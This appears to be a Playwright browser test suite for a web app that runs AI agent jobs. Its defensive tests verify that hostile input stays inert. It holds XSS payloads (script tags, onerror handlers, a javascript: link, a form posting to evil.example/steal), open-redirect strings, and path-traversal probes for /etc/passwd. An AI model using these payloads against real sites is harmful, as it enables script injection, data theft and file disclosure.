import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import type { Page } from '@playwright/test';
import { finishedRun, serverWithFakeModel } from '../api/harness.js';
import { browserSuite, ensureWebBuild, screenshotPath } from './browser.js';
import { landedOnDashboard, waitFor } from './job-fixture.js';

/**
 * The web app in a real browser against a real server (fake model provider, bwrap sandboxes): sign in through a
 * sign-in link, create a job in the UI, run it and watch the run page, reload deep links, and make sure a hostile job
 * name or run summary stays text.
 */
const web = browserSuite(await ensureWebBuild());
const server = serverWithFakeModel();

const hostileName = '<img src=x onerror="window.__pwned=1">Daily <b>report</b>';
const hostileSummary = [
  '## Weather report',
  'It is **sunny** and _warm_; see [the source](https://example.com/forecast).',
  '<script>window.__pwned=2</script>',
  '<img src="http://127.0.0.1:9/beacon.png" onerror="window.__pwned=3">',
  '![tracker](http://127.0.0.1:9/pixel.gif)',
  '[click me](javascript:window.__pwned=4)',
  '<form action="https://evil.example/steal"><input name=q></form>',
  '- first point',
  '- second point',
].join('\n');

async function signIn(page: Page): Promise<void> {
  await web.checkServed(server.t.url);
  const link = await server.t.server.services.identity.issueSignInLink('admin@example.com');
  await page.goto(server.t.url + link);
  await landedOnDashboard(page);
  // The suites below start from the jobs list.
  await page.goto(`${server.t.url}/jobs`);
}

async function expectInert(page: Page): Promise<void> {
  assert.equal(await page.evaluate<number | undefined>('window.__pwned'), undefined, 'no injected script ran');
  assert.equal(await page.locator('main img').count(), 0, 'no image from untrusted text is in the page');
  assert.equal(await page.locator('main script, main form[action], main iframe').count(), 0);
}

describe('web app serving', () => {
  it('answers the app at / and at deep links, keeps the API answers JSON, and caches hashed assets for good', async () => {
    await web.checkServed(server.t.url);
    const index = await fetch(`${server.t.url}/runs/00000000-0000-7000-8000-000000000001?tab=raw`);
    assert.equal(index.status, 200);
    assert.match(index.headers.get('content-type') ?? '', /^text\/html/);
    assert.equal(index.headers.get('cache-control'), 'no-cache');
    const csp = index.headers.get('content-security-policy') ?? '';
    assert.match(csp, /default-src 'self'/);
    assert.match(csp, /script-src 'self'(;|$)/, 'no unsafe-inline or eval for scripts');
    assert.match(csp, /frame-ancestors 'none'/);
    const html = await index.text();
    assert.equal(html, await (await fetch(`${server.t.url}/`)).text(), 'every page path answers the same index');
    assert.doesNotMatch(html, /<script(?![^>]*\bsrc=)[^>]*>/, 'the page has no inline script for the CSP to allow');

    const asset = /src="(\/assets\/[^"]+\.js)"/.exec(html)![1]!;
    const js = await fetch(server.t.url + asset, { headers: { 'accept-encoding': 'gzip' } });
    assert.equal(js.status, 200);
    assert.match(js.headers.get('content-type') ?? '', /^text\/javascript/);
    assert.equal(js.headers.get('cache-control'), 'public, max-age=31536000, immutable');
    assert.equal(js.headers.get('content-encoding'), 'gzip');
    const again = await fetch(server.t.url + asset, { headers: { 'if-none-match': js.headers.get('etag')! } });
    assert.equal(again.status, 304);

    for (const path of ['/api/no-such-route', '/api', '/api/jobs/x/y/z', '/hooks/x/y', '/assets/gone-1234.js']) {
      const res = await fetch(server.t.url + path);
      assert.equal(res.status, 404, path);
      const body = (await res.json()) as { code: string };
      assert.equal(body.code, 'not_found', path);
    }
    assert.equal((await fetch(`${server.t.url}/api/users/me`)).status, 401, 'the API is not opened by the app route');
    assert.equal((await fetch(`${server.t.url}/jobs`, { method: 'POST' })).status, 404, 'the app answers only GET');
  });

  it('never serves a file outside the build, however the path is spelled', async () => {
    const html = await (await fetch(`${server.t.url}/`)).text();
    for (const path of [
      '/../package.json',
      '/%2e%2e/package.json',
      '/..%2f..%2fpackage.json',
      '/assets/..%2f..%2f..%2fpackage.json',
      '/%2e%2e%2f%2e%2e%2fetc%2fpasswd',
      '/index.html%00.js',
      '/%E0%A4%A',
      '/.source-hash',
    ]) {
      const res = await fetch(server.t.url + path);
      const text = await res.text();
      assert.ok(
        !text.includes('"devDependencies"') && !text.includes('root:x:0') && !/^[0-9a-f]{64}$/.test(text),
        `${path} leaked a file`,
      );
      // 400: the router itself refuses a malformed escape before any route sees it.
      assert.ok(
        res.status === 404 || res.status === 400 || text === html,
        `${path}: ${res.status} ${text.slice(0, 200)} ${html.slice(0, 200)}`,
      );
    }
  });
});

describe('web app in a browser', () => {
  it('sends a visitor without a session to sign-in, and a sign-in link lands on the dashboard', async () => {
    const { context, page, problems } = await web.open();
    try {
      await page.goto(`${server.t.url}/jobs?search=abc`);
      await page.waitForURL(/\/sign-in\?next=/);
      assert.equal(new URL(page.url()).searchParams.get('next'), '/jobs?search=abc');
      await page.getByText('svc admin sign-in-link').waitFor();
      await page.screenshot({ path: screenshotPath('sign-in') });
      await signIn(page);
      await page.getByRole('heading', { name: 'Jobs', exact: true }).waitFor();
      // Signed in, the sign-in page sends on to `next`, but never to another origin.
      await page.goto(`${server.t.url}/sign-in?next=${encodeURIComponent('/runs')}`);
      await page.waitForURL(/\/runs$/);
      for (const evil of ['//evil.example/x', '/\\evil.example', 'https://evil.example/']) {
        await page.goto(`${server.t.url}/sign-in?next=${encodeURIComponent(evil)}`);
        await landedOnDashboard(page);
        assert.equal(new URL(page.url()).origin, server.t.url);
      }
      // Where an MCP server's OAuth login comes back to, as the callback route redirects.
      await page.goto(`${server.t.url}/mcp?login=ok`);
      await page.getByText('The MCP server login succeeded').waitFor();
      await page.goto(`${server.t.url}/mcp?error=access_denied`);
      await page.getByRole('alert').filter({ hasText: 'access denied' }).waitFor();

      // Signing out clears the session: the app is back at sign-in and the API refuses the browser.
      await page.getByRole('button', { name: 'Sign out' }).click();
      await page.waitForURL(/\/sign-in/);
      assert.equal(await page.evaluate(async () => (await fetch('/api/users/me')).status), 401);
      assert.deepEqual(problems, []);
    } catch (err) {
      throw await web.explain(page, err);
    } finally {
      await context.close();
    }
  });

  it('creates a job in the form, runs it, follows the run live to its end, and keeps hostile text inert', async () => {
    const pushed = await server.api.post(`/api/providers/${server.providerId}/script`, {
      reset: true,
      responses: [
        { toolCalls: [{ name: 'bash', args: { command: 'echo hello from the sandbox; sleep 2' } }] },
        { toolCalls: [{ name: 'finish', args: { status: 'success', summary: hostileSummary } }] },
      ],
    });
    assert.equal(pushed.status, 200, pushed.text);
    const { context, page, problems } = await web.open();
    const streams: string[] = [];
    page.on('request', (r) => {
      if (r.url().includes('/stream')) streams.push(r.url());
    });
    try {
      await signIn(page);
      await page.getByRole('button', { name: 'New job' }).click();
      await page.waitForURL(/\/jobs\/new$/);
      // The API's own field errors show next to the field.
      await page.getByRole('button', { name: 'Save', exact: true }).click();
      await page.getByText('must not be empty').first().waitFor();
      assert.equal(await page.getByLabel('Name').getAttribute('aria-invalid'), 'true');

      await page.getByLabel('Name').fill(hostileName);
      await page.getByLabel('Instruction').fill('Say hello and report the weather.');
      await page.getByRole('button', { name: 'Save & run' }).click();
      await page.waitForURL(/\/runs\/[0-9a-f-]+$/);
      const runId = page.url().split('/').pop()!;

      // The run page follows the stream: the tool call, its result and the final status arrive without a reload.
      await page.locator('.entry[data-type="tool.call"]').first().waitFor();
      await page.locator('.entry[data-type="tool.result"]', { hasText: 'hello from the sandbox' }).waitFor();
      await page.locator('h1 .badge', { hasText: 'succeeded' }).waitFor({ timeout: 30_000 });
      assert.ok(
        streams.some((u) => u.endsWith(`/api/runs/${runId}/stream`)),
        'the page read the live stream',
      );
      await expectTexts(page, '.entry[data-type="run.status"] .badge', ['provisioning', 'running', 'succeeded']);

      // The summary is rendered markdown, and nothing in it runs, loads or posts.
      const summary = page.locator('.card', { has: page.getByRole('heading', { name: 'Summary' }) });
      await summary.getByRole('heading', { name: 'Weather report' }).waitFor();
      assert.equal(await summary.locator('strong').first().textContent(), 'sunny');
      assert.equal(await summary.locator('li').count(), 2);
      assert.equal(
        await summary.getByRole('link', { name: 'the source' }).getAttribute('href'),
        'https://example.com/forecast',
      );
      assert.equal(
        await summary.getByRole('link', { name: 'click me' }).count(),
        0,
        'a javascript: link is not a link',
      );
      assert.match((await summary.textContent()) ?? '', /<script>window.__pwned=2<\/script>/, 'raw HTML shows as text');
      assert.match((await summary.textContent()) ?? '', /\[image: tracker\]/);
      await expectInert(page);
      assert.equal(await page.locator('.crumbs a').first().textContent(), hostileName, 'the job name is text');

      // The timeline exports as the JSON the events route answers.
      const [download] = await Promise.all([
        page.waitForEvent('download'),
        page.getByRole('button', { name: 'Export JSON' }).click(),
      ]);
      const exported = JSON.parse(readFileSync((await download.path())!, 'utf8')) as Array<{
        seq: number;
        type: string;
      }>;
      const stored = (await server.api.get(`/api/runs/${runId}/events?limit=2000`)).body as Array<{
        seq: number;
        type: string;
      }>;
      assert.deepEqual(
        exported.map((e) => e.seq),
        stored.map((e) => e.seq),
      );

      // A deep link reloads into the same page, read from the stored timeline.
      await page.reload();
      await summary.getByRole('heading', { name: 'Weather report' }).waitFor();
      await page.locator('.entry[data-type="tool.result"]', { hasText: 'hello from the sandbox' }).waitFor();
      await expectInert(page);

      // The jobs list shows the job with its run in the strip, the name as text.
      await page.goto(`${server.t.url}/jobs`);
      const row = page.locator('tr', { hasText: 'Daily' });
      await row.waitFor();
      assert.equal(await row.locator('a.job-name').textContent(), hostileName);
      assert.equal(await row.locator('.strip a').getAttribute('href'), `/runs/${runId}`);
      assert.equal(await row.locator('.strip a').getAttribute('aria-label'), 'Run #1: succeeded');
      await expectInert(page);
      await page.screenshot({ path: screenshotPath('jobs-desktop') });

      // The job's overview sums up its runs; the runs page finds the run by its job's name.
      await row.locator('a.job-name').click();
      await page.locator('.tile', { hasText: 'succeeded' }).locator('.tile-value', { hasText: '100%' }).waitFor();
      assert.equal(
        await page.locator('.tile', { hasText: 'runs in 30 days' }).locator('.tile-value').textContent(),
        '1',
      );
      await page.goto(`${server.t.url}/runs`);
      await page.getByLabel('Search runs').fill('Daily');
      await page.waitForURL(/search=Daily/);
      await page.locator(`a[href="/runs/${runId}"]`).waitFor();
      await page.getByLabel('Search runs').fill('no run has this text');
      await page.getByText('No runs yet').waitFor();
      assert.deepEqual(problems, [], 'no console errors and no CSP violations');
    } catch (err) {
      throw await web.explain(page, err);
    } finally {
      await context.close();
    }
  });

  it('compiles a sentence into the form, and saves the proposal with its schedule and allow-list', async () => {
    const { context, page, problems } = await web.open();
    try {
      await signIn(page);
      await page.goto(`${server.t.url}/jobs/new`);
      await page
        .getByLabel('Describe the job in a sentence')
        .fill('Every monday at 8am Europe/Berlin fetch the weather from wttr.in');
      await page.getByRole('button', { name: 'Compile into a job' }).click();
      await page.getByText('Proposed from your sentence.').waitFor();
      assert.equal(await page.getByLabel('Name').inputValue(), 'Every monday at 8am Europe Berlin');
      assert.equal(await page.getByLabel('Schedule (cron)').inputValue(), '0 8 * * 1');
      assert.equal(await page.getByLabel('Time zone').inputValue(), 'Europe/Berlin');
      assert.equal(await page.getByLabel('Network').inputValue(), 'allowlist');
      assert.equal(await page.getByLabel('Allowed domains').inputValue(), 'wttr.in');
      await page.getByLabel('Name').fill('Monday weather');
      await page.getByRole('button', { name: 'Save', exact: true }).click();
      await page.waitForURL(/\/jobs\/[0-9a-f-]+$/);
      await page.getByText('0 8 * * 1').waitFor();
      const job = (await server.api.get(`/api/jobs/${page.url().split('/').pop()}`)).body;
      assert.equal(job.name, 'Monday weather');
      assert.deepEqual(job.allowedDomains, ['wttr.in']);
      assert.equal(job.spec.schedule.human, 'every monday at 08:00', 'the compiled spec was saved with the job');
      assert.deepEqual(problems, []);
    } catch (err) {
      throw await web.explain(page, err);
    } finally {
      await context.close();
    }
  });

  it('manages secrets without ever showing a value, and shows a new API token once', async () => {
    const value = 'hunter2-web-secret-value';
    const { context, page, problems } = await web.open();
    page.on('dialog', (d) => {
      d.accept().catch(() => undefined);
    });
    try {
      await signIn(page);
      await page.getByRole('link', { name: 'Settings' }).click();
      await page.waitForURL(/\/settings\/secrets$/);
      await page.getByLabel('Name', { exact: true }).fill('<b>bad</b> name');
      await page.getByLabel('Value', { exact: true }).fill(value);
      await page.getByRole('button', { name: 'Add secret' }).click();
      await page.locator('.field.has-error', { hasText: 'Name' }).waitFor();
      await page.getByLabel('Name', { exact: true }).fill('WEATHER_KEY');
      await page.getByRole('button', { name: 'Add secret' }).click();
      await page.locator('td code', { hasText: 'WEATHER_KEY' }).waitFor();
      assert.equal(
        await page.getByLabel('Value', { exact: true }).inputValue(),
        '',
        'the value is not kept in the form',
      );
      await page.getByRole('button', { name: 'Replace the value of WEATHER_KEY' }).click();
      await page.getByLabel('New value for WEATHER_KEY').fill(`${value}-2`);
      await page.getByRole('button', { name: 'Save', exact: true }).click();
      await page.getByRole('button', { name: 'Replace the value of WEATHER_KEY' }).waitFor();
      await page.reload();
      await page.locator('td code', { hasText: 'WEATHER_KEY' }).waitFor();
      assert.ok(!(await page.content()).includes(value), 'no secret value is anywhere in the page');

      await page.getByRole('link', { name: 'API tokens' }).click();
      await page.getByLabel('Name', { exact: true }).fill('nightly script');
      await page.getByRole('button', { name: 'Create token' }).click();
      const token = await page.getByLabel('The new token').inputValue();
      assert.match(token, /^svc_/);
      const me = await fetch(`${server.t.url}/api/users/me`, { headers: { authorization: `Bearer ${token}` } });
      assert.equal(me.status, 200, 'the token shown works');
      await page.reload();
      await page.locator('td', { hasText: 'nightly script' }).waitFor();
      assert.ok(!(await page.content()).includes(token), 'a token is shown once only');
      await page.getByRole('button', { name: 'Delete token nightly script' }).click();
      await page.locator('td', { hasText: 'nightly script' }).waitFor({ state: 'detached' });
      assert.equal(
        (await fetch(`${server.t.url}/api/users/me`, { headers: { authorization: `Bearer ${token}` } })).status,
        401,
      );

      await page.getByRole('link', { name: 'Secrets' }).click();
      await page.getByRole('button', { name: 'Delete WEATHER_KEY' }).click();
      await page.getByText('No secrets yet').waitFor();
      assert.deepEqual(problems, []);
    } catch (err) {
      throw await web.explain(page, err);
    } finally {
      await context.close();
    }
  });

  it('opens a long timeline virtualised, with every entry reachable by keyboard, scroll and the jump buttons', async () => {
    // Three turns of 75 notes each (a scripted answer holds at most 100 calls): over 450 entries in a second or two.
    const turn = (n: number) => ({
      toolCalls: Array.from({ length: 75 }, (_, i) => ({ name: 'remember', args: { note: `note ${n}.${i}` } })),
    });
    const pushed = await server.api.post(`/api/providers/${server.providerId}/script`, {
      reset: true,
      responses: [
        turn(1),
        turn(2),
        turn(3),
        { toolCalls: [{ name: 'finish', args: { status: 'success', summary: 'noted' } }] },
      ],
    });
    assert.equal(pushed.status, 200, pushed.text);
    const job = (await server.api.post('/api/jobs', { name: 'long timeline', instruction: 'x', selfImprove: false }))
      .body.id as string;
    const runId = (await server.api.post(`/api/jobs/${job}/runs`, {})).body.runId as string;
    const { run, events } = await finishedRun(server.api, runId);
    assert.equal(run.status, 'succeeded', run.error);
    assert.ok(events.length > 440, `${events.length} entries`);
    const { context, page, problems } = await web.open();
    try {
      await signIn(page);
      const t0 = Date.now();
      await page.goto(`${server.t.url}/runs/${runId}`);
      // A finished run opens at its start; only the rows in view are in the page.
      await page
        .getByRole('status')
        .filter({ hasText: `${events.length} entries` })
        .waitFor();
      await page.locator('.entry[data-seq="1"]').waitFor();
      const openMs = Date.now() - t0;
      const rendered = await page.locator('.entry').count();
      assert.ok(rendered > 3 && rendered < 100, `${rendered} of ${events.length} entries in the page`);
      assert.equal(await page.locator('.entry[data-type="finish"]').count(), 0);

      // The end is one click away, and says where it is in the whole list.
      await page.getByRole('button', { name: 'Jump to end' }).click();
      const last = page.locator(`.entry[data-seq="${events[events.length - 1]!.seq}"]`);
      await last.waitFor();
      assert.equal(await last.getAttribute('aria-posinset'), String(events.length));
      assert.equal(await last.getAttribute('aria-setsize'), String(events.length));
      await page.locator('.entry[data-type="finish"]').waitFor();
      assert.equal(await page.locator('.entry[data-seq="1"]').count(), 0, 'the start left the page');

      // The keyboard reaches everything: Home in the focused timeline goes back to the first entry.
      const region = page.getByRole('region', { name: /^Timeline, \d+ entries/ });
      await region.focus();
      await page.keyboard.press('Home');
      await page.locator('.entry[data-seq="1"]').waitFor();
      // Scrolling on: an entry in the middle (the second turn's notes) comes into the page as the wheel turns.
      const middle = events.find((e) => e.type === 'tool.call' && e.payload.args?.note === 'note 2.40')!;
      await region.hover();
      for (let i = 0; i < 200 && (await page.locator(`.entry[data-seq="${middle.seq}"]`).count()) === 0; i++)
        await page.mouse.wheel(0, 600);
      await page.locator(`.entry[data-seq="${middle.seq}"]`).waitFor();
      assert.match((await page.locator(`.entry[data-seq="${middle.seq}"]`).textContent()) ?? '', /remember/);

      // A row's details open in place.
      await page.getByRole('button', { name: 'Jump to start' }).click();
      await page.locator('.entry[data-seq="1"]').locator('summary').click();
      assert.match(
        (await page.locator('.entry[data-seq="1"]').locator('pre').textContent()) ?? '',
        /"status": "provisioning"/,
      );
      console.log(`[web] a finished run of ${events.length} entries opened in ${openMs} ms`);
      assert.deepEqual(problems, []);
    } catch (err) {
      throw await web.explain(page, err);
    } finally {
      await context.close();
    }
  });

  it('keeps search, sort and paging in the URL, and each survives a reload', async () => {
    for (const name of ['alpha sorter', 'beta sorter', 'gamma sorter']) {
      const created = await server.api.post('/api/jobs', { name, instruction: 'x', selfImprove: false });
      assert.equal(created.status, 201, created.text);
    }
    const { context, page, problems } = await web.open();
    try {
      await signIn(page);
      await page.getByLabel('Search jobs').fill('sorter');
      await page.waitForURL(/search=sorter/);
      await expectTexts(page, 'a.job-name', ['alpha sorter', 'beta sorter', 'gamma sorter']);
      // Name is the default order, so the first click turns it around.
      await page.getByRole('button', { name: 'Name' }).click();
      await page.waitForURL(/sort=-name/);
      await page.getByLabel('Per page').selectOption('10');
      await page.waitForURL(/pageSize=10/);
      await page.reload();
      await expectTexts(page, 'a.job-name', ['gamma sorter', 'beta sorter', 'alpha sorter']);
      assert.equal(await page.getByLabel('Search jobs').inputValue(), 'sorter');
      assert.equal(await page.locator('th[aria-sort="descending"]').textContent(), 'Name ▼');

      // The strip of last runs follows the workspace's run events: a run started elsewhere shows up without a reload.
      const alpha = (await server.api.get('/api/jobs?search=alpha%20sorter')).body.items[0];
      const started = await server.api.post(`/api/jobs/${alpha.id}/runs`, {});
      assert.equal(started.status, 201, started.text);
      await page
        .locator('tr', { hasText: 'alpha sorter' })
        .locator(`.strip a[href="/runs/${started.body.runId}"]`)
        .waitFor();

      // Paging is the server's: two per page (a URL value the page-size menu does not offer is still honoured).
      await page.goto(`${server.t.url}/jobs?search=sorter&pageSize=2`);
      await page.getByText('Page 1 of 2').waitFor();
      await page.getByRole('button', { name: 'Next', exact: true }).click();
      await page.waitForURL(/page=2/);
      await page.getByText('Page 2 of 2').waitFor();
      await expectTexts(page, 'a.job-name', ['gamma sorter']);
      await page.reload();
      await page.getByText('Page 2 of 2').waitFor();

      // The enable switch changes the job through the API.
      await page.getByRole('switch', { name: 'Enable gamma sorter' }).click();
      const gamma = (await server.api.get('/api/jobs?search=gamma%20sorter')).body.items[0];
      await waitFor(async () => (await server.api.get(`/api/jobs/${gamma.id}`)).body.enabled === false);

      // Ctrl-K jumps to a job found on the server, or to a page, from the keyboard alone.
      await page.keyboard.press('Control+k');
      await page.getByRole('combobox', { name: 'Go to a page, job or run' }).fill('gamma');
      await page.getByRole('option', { name: /gamma sorter/ }).waitFor();
      await page.keyboard.press('Enter');
      await page.waitForURL(new RegExp(`/jobs/${gamma.id}$`));
      // Typed keys reach the palette once its dialog holds the focus; Enter takes the option shown as selected.
      await page.keyboard.press('Control+k');
      await page.waitForFunction("document.activeElement?.getAttribute('aria-label') === 'Go to a page, job or run'");
      await page.keyboard.type('api tok');
      await page.getByRole('option', { name: /API tokens/, selected: true }).waitFor();
      await page.keyboard.press('Enter');
      await page.waitForURL(/\/settings\/tokens$/);

      // A query the API refuses shows its message instead of a blank page.
      await page.goto(`${server.t.url}/jobs?sort=bogus`);
      await page.getByRole('alert').filter({ hasText: '"bogus" is not a sort key' }).waitFor();
      assert.equal(await page.locator('table').count(), 0);
      assert.deepEqual(problems, []);
    } catch (err) {
      throw await web.explain(page, err);
    } finally {
      await context.close();
    }
  });

  it('opens job tabs by deep link, saves settings, and cancels a live run from its page', async () => {
    const id = (
      await server.api.post('/api/jobs', {
        name: 'tabbed job',
        instruction: 'Wait with `sleep 30` and report.',
        selfImprove: false,
      })
    ).body.id as string;
    await server.api.post(`/api/providers/${server.providerId}/script`, { reset: true, responses: [] });
    const { context, page, problems } = await web.open(390, 800);
    try {
      await signIn(page);
      await page.goto(`${server.t.url}/jobs/${id}/settings`);
      assert.equal(await page.getByLabel('Name').inputValue(), 'tabbed job');
      assert.equal(await page.locator('.tabs a.active').textContent(), 'Settings');
      await page.getByLabel('Schedule (cron)').fill('not a cron');
      await page.getByRole('button', { name: 'Save changes' }).click();
      await page.locator('.field.has-error', { hasText: 'Schedule' }).waitFor();
      await page.getByLabel('Schedule (cron)').fill('');
      await page.getByLabel('Name').fill('tabbed job, renamed');
      await page.getByRole('button', { name: 'Save changes' }).click();
      await page.getByText('Saved.').waitFor();
      assert.equal((await server.api.get(`/api/jobs/${id}`)).body.name, 'tabbed job, renamed');

      await page.goto(`${server.t.url}/jobs/${id}/playbook`);
      await page.getByText('The playbook is empty').waitFor();
      await page.goto(`${server.t.url}/jobs/${id}`);
      await page.getByRole('heading', { name: 'Instruction' }).waitFor();
      await page.getByRole('button', { name: 'Run now' }).click();
      await page.waitForURL(/\/runs\//);
      await page.locator('h1 .badge', { hasText: /running|provisioning/ }).waitFor({ timeout: 30_000 });
      await page.screenshot({ path: screenshotPath('run-phone') });
      assert.ok(
        await page.evaluate<boolean>('document.documentElement.scrollWidth <= window.innerWidth + 1'),
        'the run page fits a phone screen',
      );
      await page.getByRole('button', { name: 'Cancel run' }).click();
      await page.locator('h1 .badge', { hasText: 'cancelled' }).waitFor({ timeout: 30_000 });
      await page.getByRole('button', { name: 'Retry' }).waitFor();

      await page.goto(`${server.t.url}/jobs/${id}/runs`);
      await page.getByRole('link', { name: '#1' }).waitFor();
      assert.equal(await page.locator('tbody .badge.status-cancelled').count(), 1);
      assert.ok(
        await page.evaluate<boolean>('document.documentElement.scrollWidth <= window.innerWidth + 1'),
        'the runs list fits a phone screen',
      );

      // Playbook versions: each shows what it changed against the one before, and the version is in the URL.
      for (const main of ['#!/bin/sh\necho one\necho done\n', '#!/bin/sh\necho two\necho done\n']) {
        const saved = await server.api.request('PUT', `/api/jobs/${id}/playbook`, {
          content: { main, learnings: [{ text: `main says ${main.includes('two') ? 'two' : 'one'}` }] },
        });
        assert.equal(saved.status, 200, saved.text);
      }
      await page.goto(`${server.t.url}/jobs/${id}/playbook?version=2`);
      await page.locator('.diff .diff-del', { hasText: 'echo one' }).waitFor();
      await page.reload();
      assert.equal(await page.locator('.diff .diff-add').textContent(), '+ echo two');
      assert.equal(await page.locator('.diff .diff-same', { hasText: 'echo done' }).count(), 1);
      await page.locator('li.diff-changed', { hasText: 'main says two' }).waitFor();
      await page.getByRole('button', { name: 'v1' }).click();
      await page.waitForURL(/version=1$/);
      await page.locator('.diff .diff-add', { hasText: 'echo one' }).waitFor();
      await page.goto(`${server.t.url}/jobs/${id}/nonsense`);
      await page.getByText('This job has no “nonsense” section').waitFor();
      await page.goto(`${server.t.url}/jobs/00000000-0000-7000-8000-00000000dead`);
      await page.getByRole('alert').filter({ hasText: 'not found' }).waitFor();
      assert.deepEqual(problems, []);
    } catch (err) {
      throw await web.explain(page, err);
    } finally {
      await context.close();
    }
  });
});

/** Waits until the elements' texts are `expected` (a list keeps its old rows while the next page loads). */
async function expectTexts(page: Page, selector: string, expected: string[], ms = 15_000): Promise<void> {
  const deadline = Date.now() + ms;
  let got: string[] = [];
  while (Date.now() < deadline) {
    got = await page.locator(selector).allTextContents();
    if (JSON.stringify(got) === JSON.stringify(expected)) return;
    await new Promise((r) => setTimeout(r, 50));
  }
  assert.deepEqual(got, expected);
}
